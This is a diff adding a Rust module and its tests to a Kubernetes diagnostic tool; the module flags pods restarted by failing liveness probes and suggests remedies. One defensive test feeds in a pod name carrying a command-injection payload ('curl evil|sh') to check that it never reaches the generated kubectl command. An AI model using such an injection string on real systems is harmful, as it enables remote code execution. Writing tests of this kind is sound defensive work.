@@ -1,0 +1,309 @@
+//! The liveness probe restarts pods that work.
+
+use jiff::SignedDuration;
+
+use crate::{
+    causes::{
+        cause::{Cause, Explains},
+        context::Context,
+        probes,
+    },
+    model::{Code, Component, Diagnosis, Severity, redact::redact, shell},
+    observe::{Observation, ProbeKill},
+    timeouts::liveness_failures,
+    validate::{Change, Installation},
+};
+
+pub(crate) static CAUSE: Cause = Cause {
+    severity: Severity::Warning,
+    component: Component::Api,
+    explains: &[
+        Explains::from_api(&[Code::FrontendCannotReachApi]),
+        Explains::same_component(&[Code::ProbeFailing, Code::CrashLooping]),
+    ],
+    check: Some(check),
+    ..Cause::new(include_str!("liveness_probe_killing.md"))
+};
+
+/// How long a container that was started again has to be up before its end may count as an incident that is over.
+const RECOVERED: SignedDuration = SignedDuration::from_mins(2);
+
+/// `timeoutSeconds` that a busy worker can keep.
+const TIMEOUT: i32 = 5;
+
+/// The most kills that are shown as evidence.
+const SHOWN: usize = 3;
+
+/// How the kubelet says that a probe had no answer in time.
+const TOO_LATE: &[&str] = &[
+    "deadline exceeded",
+    "Timeout exceeded",
+    "i/o timeout",
+    "timed out",
+];
+
+/// The containers of a component that their liveness probe ended, from both witnesses: the Events of a pod that is not
+/// ready, and the kills of the last hour, whose pods may be well again.
+struct Killed<'a> {
+    component: Component,
+    /// A pod that is not ready, and what the kubelet says of its probes.
+    unready: Option<(&'a str, Vec<String>)>,
+    kills: Vec<&'a ProbeKill>,
+}
+
+fn check(context: &Context<'_>) -> Vec<Diagnosis> {
+    probes::PROBED
+        .into_iter()
+        .filter_map(|component| Killed::of(context.observation, component))
+        .map(|killed| killed.explain(context))
+        .collect()
+}
+
+impl<'a> Killed<'a> {
+    fn of(observation: &'a Observation, component: Component) -> Option<Self> {
+        let unready = probes::unready(observation, component).find_map(|pod| {
+            let said = probes::said(observation, pod);
+            probes::was_killed(&said, pod, observation.now).then_some((pod.name.as_str(), said))
+        });
+        let kills: Vec<&ProbeKill> = observation
+            .probe_kills
+            .iter()
+            .filter(|kill| kill.component == component.as_str())
+            .collect();
+        (unready.is_some() || !kills.is_empty()).then_some(Self {
+            component,
+            unready,
+            kills,
+        })
+    }
+
+    /// Whether each probe that failed had no answer in time, in contrast to a wrong one.
+    fn is_busy(&self) -> bool {
+        let late = |words: &str| TOO_LATE.iter().any(|late| words.contains(late));
+        let said = self.unready.iter().flat_map(|(_, said)| said);
+        let of_liveness = said.filter(|line| line.contains("Liveness probe failed"));
+        of_liveness
+            .map(String::as_str)
+            .chain(self.kills.iter().map(|kill| kill.probe.as_str()))
+            .all(late)
+    }
+
+    /// A pod that is down now is worse than one that was, and that one worse than what is over.
+    fn severity(&self, observation: &Observation) -> Severity {
+        if self.unready.is_some() {
+            Severity::Critical
+        } else if self.kills.iter().all(|kill| recovered(observation, kill)) {
+            Severity::Info
+        } else {
+            Severity::Warning
+        }
+    }
+
+    fn evidence(&self, observation: &Observation) -> Vec<String> {
+        let workload = match self.component {
+            Component::TaskProcessor => observation.task_processor.as_ref(),
+            Component::Frontend => observation.frontend.as_ref(),
+            _ => observation.api.as_ref(),
+        };
+        let probe = workload
+            .and_then(|workload| workload.serving.as_ref())
+            .and_then(|serving| serving.liveness.as_ref());
+        let said = self.unready.iter().flat_map(|(_, said)| said.iter().cloned());
+        let kills = self.kills.iter().take(SHOWN).map(|kill| {
+            format!(
+                "pod {}: {}; its container was ended for that (exit status {}) and started again",
+                kill.pod,
+                redact(&kill.probe),
+                kill.exit_code,
+            )
+        });
+        let patience = probe.map(|probe| {
+            format!(
+                "the probe waits {} s for an answer and gives up after {} s without one",
+                probe.timeout, probe.patience,
+            )
+        });
+        said.chain(kills).chain(patience).collect()
+    }
+
+    fn explain(&self, context: &Context<'_>) -> Diagnosis {
+        let who = self.component.as_str();
+        let pod = self.unready.as_ref().map(|(name, _)| *name);
+        let pod = pod.or_else(|| self.kills.first().map(|kill| kill.pod.as_str()));
+        let logs = format!(
+            "kubectl -n {} logs {} --previous",
+            shell::name(&context.installation.identity.namespace, "NAMESPACE"),
+            shell::name(pod.unwrap_or_default(), "POD"),
+        );
+        let patient = patient(context.installation, self.component);
+        let (message, remedy) = if self.is_busy() {
+            (
+                format!(
+                    "The kubelet restarts pods of the {who} because they do not answer their liveness probe in time: \
+                     every thread is busy or the processor is short. Requests that run are cut."
+                ),
+                format!(
+                    "Find what keeps it busy (slow queries: pg_stat_activity; CPU limit; {logs}), add pods or \
+                     threads, and {patient}."
+                ),
+            )
+        } else {
+            (
+                format!(
+                    "The kubelet restarts pods of the {who} because their liveness probe fails. Requests that run \
+                     are cut."
+                ),
+                format!(
+                    "See what kept it from answering: {logs}; and that the probe asks for something that is there. \
+                     If it is only slow, add pods, threads or CPU, and {patient}."
+                ),
+            )
+        };
+        Diagnosis {
+            code: Code::LivenessProbeKilling,
+            severity: self.severity(context.observation),
+            component: self.component,
+            message,
+            evidence: self.evidence(context.observation),
+            remedy,
+        }
+    }
+}
+
+/// How its owner makes the probe outlast the longest request.
+fn patient(installation: &Installation, component: Component) -> String {
+    let (own, field) = match component {
+        Component::TaskProcessor => (&installation.task_processor.container, "taskProcessor"),
+        Component::Frontend => (&installation.frontend.container, "frontend"),
+        _ => (&installation.api.container, "api"),
+    };
+    if own.liveness_probe.is_some() {
+        return format!(
+            "remove spec.{field}.livenessProbe (the operator's own is patient enough for the longest request)"
+        );
+    }
+    let failures = liveness_failures(installation.request_timeout);
+    let change = installation
+        .managed_by
+        .change(&[Change::Liveness(component, TIMEOUT, failures)]);
+    format!("let the probe outlast the longest request: {change}")
+}
+
+/// Whether a pod was ended once and is well since: a database that was away does that to every pod, and is over. What
+/// comes again is a pattern.
+fn recovered(observation: &Observation, kill: &ProbeKill) -> bool {
+    kill.restarts <= 1
+        && observation.pods.iter().any(|pod| {
+            let up = pod.started.map(|started| observation.now.duration_since(started));
+            pod.name == kill.pod && pod.ready && up.is_some_and(|up| up >= RECOVERED)
+        })
+}
+
+#[cfg(test)]
+mod tests {
+    use rstest::rstest;
+    use serde_json::json;
+
+    use super::super::shared::testing::{check, codes, made};
+    use super::*;
+    use crate::{
+        fixtures::{empty_observation, installation, minimal, spec},
+        observe::PodSummary,
+    };
+
+    const LATE: &str = "Liveness probe failed: context deadline exceeded";
+
+    fn kill(probe: &str, restarts: i32) -> ProbeKill {
+        ProbeKill {
+            pod: "flagsmith-api-abc".to_owned(),
+            component: "api".to_owned(),
+            probe: probe.to_owned(),
+            exit_code: 137,
+            restarts,
+        }
+    }
+
+    #[test]
+    fn a_container_that_its_liveness_probe_ended_is_named() {
+        let installation = installation(&spec(json!({})));
+        let mut observation = made(&installation, &|_| {});
+        observation.probe_kills = vec![kill(LATE, 2)];
+        let found = check(&installation, &observation);
+        assert_eq!(codes(&found), [Code::LivenessProbeKilling]);
+        assert!(
+            found
+                .first()
+                .unwrap()
+                .evidence
+                .iter()
+                .any(|it| it.contains("context deadline exceeded")),
+            "{found:?}"
+        );
+    }
+
+    #[rstest]
+    #[case::once_and_well_since(1, true, 600, Severity::Info)]
+    #[case::a_moment_ago(1, true, 30, Severity::Warning)]
+    #[case::again_and_again(3, true, 600, Severity::Warning)]
+    #[case::not_well(1, false, 600, Severity::Warning)]
+    fn what_happened_once_is_over(
+        #[case] restarts: i32,
+        #[case] ready: bool,
+        #[case] seconds: i64,
+        #[case] expected: Severity,
+    ) {
+        let installation = installation(&spec(json!({})));
+        let mut observation = made(&installation, &|_| {});
+        observation.probe_kills = vec![kill(LATE, restarts)];
+        observation.pods = vec![PodSummary {
+            name: "flagsmith-api-abc".to_owned(),
+            component: "api".to_owned(),
+            ready,
+            started: Some(observation.now - SignedDuration::from_secs(seconds)),
+            ..PodSummary::default()
+        }];
+        let found = check(&installation, &observation);
+        let killed = found.iter().find(|it| it.code == Code::LivenessProbeKilling);
+        assert_eq!(killed.map(|it| it.severity), Some(expected), "{found:#?}");
+    }
+
+    /// A probe that is answered, but wrongly, is not answered late.
+    #[rstest]
+    #[case(LATE, "in time")]
+    #[case(
+        "Liveness probe failed: Get \"http://10.0.0.7:8000/\": context deadline exceeded (Client.Timeout exceeded while awaiting headers)",
+        "in time"
+    )]
+    #[case(
+        "Liveness probe failed: HTTP probe failed with statuscode: 404",
+        "their liveness probe fails"
+    )]
+    fn the_reason_is_the_kubelets(#[case] probe: &str, #[case] expected: &str) {
+        let installation = installation(&minimal());
+        let mut observation = empty_observation();
+        observation.probe_kills = vec![kill(probe, 2)];
+        let found = check(&installation, &observation);
+        assert!(found[0].message.contains(expected), "{found:#?}");
+        assert!(
+            found[0]
+                .remedy
+                .contains("kubectl -n prod logs flagsmith-api-abc --previous"),
+            "{found:#?}"
+        );
+    }
+
+    #[test]
+    fn a_hostile_name_is_no_part_of_a_command() {
+        let installation = installation(&minimal());
+        let mut observation = empty_observation();
+        observation.probe_kills = vec![ProbeKill {
+            pod: "x;curl evil|sh\u{1b}\n".to_owned(),
+            ..kill(LATE, 2)
+        }];
+        let remedy = &check(&installation, &observation)[0].remedy;
+        assert!(
+            remedy.contains("-n prod logs POD --previous") && !remedy.contains("evil"),
+            "{remedy}"
+        );
+    }
+}
